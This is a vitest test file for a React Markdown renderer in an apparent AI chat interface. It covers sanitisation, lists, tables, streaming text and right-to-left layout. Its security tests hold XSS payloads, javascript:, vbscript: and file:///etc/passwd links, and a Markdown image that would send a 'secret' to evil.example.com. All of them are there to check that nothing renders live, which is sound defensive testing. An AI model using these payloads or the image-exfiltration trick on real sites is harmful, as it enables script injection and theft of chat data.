import { TextProvider } from '@berth/ui';
import { createElement } from 'react';
import { jsx } from 'react/jsx-runtime';
import { renderToStaticMarkup } from 'react-dom/server';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { CHAT_TEXTS } from '../../../text/use-chat-texts.ts';
import { FileReaderContext } from '../../media/use-file.ts';
import { MarkdownView } from './markdown-view.tsx';

beforeAll(() => void vi.stubGlobal('location', { origin: 'https://agent.example.com' }));
afterAll(() => void vi.unstubAllGlobals());

/** Renders Markdown; a file is never read, because effects do not run. */
function render(text: string, isLive = false): string {
  const view = createElement(MarkdownView, { text, isLive });
  const files = createElement(FileReaderContext, { value: async () => new Blob() }, view);
  const texts = { language: 'en', messages: CHAT_TEXTS.en, children: files } as const;
  return renderToStaticMarkup(jsx(TextProvider, texts));
}
/** Returns the text between the tags. */
const textOf = (html: string) => html.replaceAll(/<[^>]*>/g, '');

describe('what nobody vouches for', () => {
  // Fails when raw HTML of an answer becomes part of the page.
  it.each(['<img src=x onerror=alert(1)>', 'a <b onclick="x()">b</b>', '<script>x()</script>'])(
    'shows %s as text',
    (text) => {
      expect(render(text)).not.toMatch(/<(?:img|b|script)[ >]/);
      expect(textOf(render(text))).toContain(text.includes('<b') ? '&lt;b onclick' : text.slice(1, 4));
    },
  );

  it.each(['javascript:alert(1)', 'data:text/html,x', 'vbscript:x', 'file:///etc/passwd'])(
    'makes no link of %s',
    (address) => {
      const html = render(`[click](${address})`);
      expect(html).not.toContain('href');
      expect(textOf(html)).toBe('click');
    },
  );

  // Fails when an image of another server loads: its address could carry the chat there.
  it('loads no image of another server', () => {
    const html = render('![chart](https://evil.example.com/x.png?q=secret)');
    expect(html).not.toContain('<img');
    expect(textOf(html)).toBe('chart (on evil.example.com)');
  });

  it('opens links of other servers without telling them where they are from', () => {
    expect(render('[a](https://example.com/)')).toContain('rel="noopener noreferrer"');
  });
});

describe('blocks', () => {
  it('have headings below those of the page', () => {
    const html = render('# one\n\n## two\n\n###### six');
    expect([...html.matchAll(/<(h\d)/g)].map(([, level]) => level)).toEqual(['h3', 'h4', 'h6']);
  });

  it('have lists, also ones that begin elsewhere than at one', () => {
    expect(render('- a\n- b')).toMatch(/<ul[^>]*><li[^>]*><bdi>a<\/bdi><\/li><li[^>]*><bdi>b<\/bdi><\/li><\/ul>/);
    expect(render('3. a\n4. b')).toContain('start="3"');
  });

  // Fails when a tight list has paragraphs: its rows would stand apart.
  it('have paragraphs in a list only where it has blank lines', () => {
    expect(render('- a\n- b')).not.toContain('<p');
    expect(render('- a\n\n- b')).toContain('<p');
  });

  it('name what a checkbox says', () => {
    const html = render('- [x] a\n- [ ] b');
    expect([...html.matchAll(/aria-label="([^"]*)"/g)].map(([, name]) => name)).toEqual(['Done', 'To do']);
  });

  it('have tables that can be sorted by each column', () => {
    const html = render('| a | b |\n|---|---|\n| 1 | 2 |');
    expect([...html.matchAll(/title="([^"]*)"/g)].map(([, title]) => title)).toEqual(['Sort by a', 'Sort by b']);
  });

  it('have alerts with their kind as a heading, and quotes without one', () => {
    expect(textOf(render('> [!WARNING]\n> Hot.'))).toBe('WarningHot.');
    expect(render('> [!CAUTION]\n> Hot.')).toContain('role="alert"');
    expect(render('> Hot.')).toContain('<blockquote');
  });

  it('have footnotes that lead there and back', () => {
    const html = render('a[^1]\n\n[^1]: More.');
    const ids = [...html.matchAll(/ id="([^"]*)"/g)].map(([, id]) => id?.replace(/^[^-]*-/, ''));
    expect(ids).toEqual(['mark-1', 'note-1']);
  });

  it('have code with its language and line numbers, commands without numbers', () => {
    expect(textOf(render('```python\na\nb\n```'))).toContain('1\n2');
    expect(textOf(render('```bash\na\nb\n```'))).not.toContain('1\n2');
  });

  it('show a formula as its source until it can be drawn', () => {
    expect(textOf(render('$x^2$'))).toBe('x^2');
    expect(render('$$\nx^2\n$$')).toContain('block');
  });
});

describe('text that grows', () => {
  // Fails when open markup is shown as it is written: the asterisks would flicker.
  it('is drawn as if its markup were closed', () => {
    expect(render('so **bold', true)).toContain('<strong>bold</strong>');
    expect(render('so **bold')).not.toContain('<strong>');
  });

  it('shows no link before its address is there', () => {
    expect(render('see [docs](https://exam', true)).not.toContain('href');
  });

  // Fails when a code block is drawn before its language is known: it would change its look.
  it('shows no code before its first line has ended', () => {
    expect(render('```pyth', true)).not.toContain('<pre');
    expect(render('```python\na', true)).toContain('<pre');
  });

  it('shows no table before its first row is complete', () => {
    expect(render('| a |\n|---|\n| 1 |', true)).not.toContain('<table');
    expect(render('| a |\n|---|\n| 1 |\n| 2 |', true)).toContain('<table');
  });
});

describe('direction and alignment', () => {
  // Fails when a list takes the direction of the page: its numbers would hang outside the column.
  it.each([
    ['1. أولًا\n2. ثانيًا', '<ol dir="rtl"'],
    ['- `report.csv` نفتح الملف', '<ul dir="rtl"'],
    ['1. 3.5\n2. one', '<ol dir="ltr"'],
    ['> قال', '<blockquote dir="rtl"'],
    ['> [!NOTE]\n> تذكير', 'role="note" dir="rtl"'],
    ['| المدينة | السكان |\n|---|---|\n| a | 1 |', 'role="group" aria-label="Table" dir="rtl"'],
    ['[^1]: حاشية', 'role="note" dir="rtl"'],
  ])('of %j comes from its own words', (text, html) => {
    expect(render(text)).toContain(html);
  });

  // Fails when the alignment that GitHub's tables have is ignored.
  it('of table columns is the written one', () => {
    const html = render('| a | b | c |\n|:--|:-:|--:|\n| 1 | 2 | 3 |');
    const classes = [...html.matchAll(/<t[hd][^>]*class="[^"]*(text-(?:start|center|end))/g)].map(([, one]) => one);
    expect(classes).toEqual(['text-start', 'text-center', 'text-end', 'text-start', 'text-center', 'text-end']);
  });

  it('leaves room for the numbers of a long list', () => {
    expect(render('9. a')).toContain('calc(2ch + 1em)');
    expect(render('999. a\n1000. b')).toContain('calc(4ch + 1em)');
  });

  // Fails when a space parts a footnote's mark from its word, and another one from the full stop.
  it('has marks of footnotes at their word', () => {
    expect(textOf(render('See footnote [^1].\n\n[^1]: Here.'))).toContain('See footnote1.');
  });
});
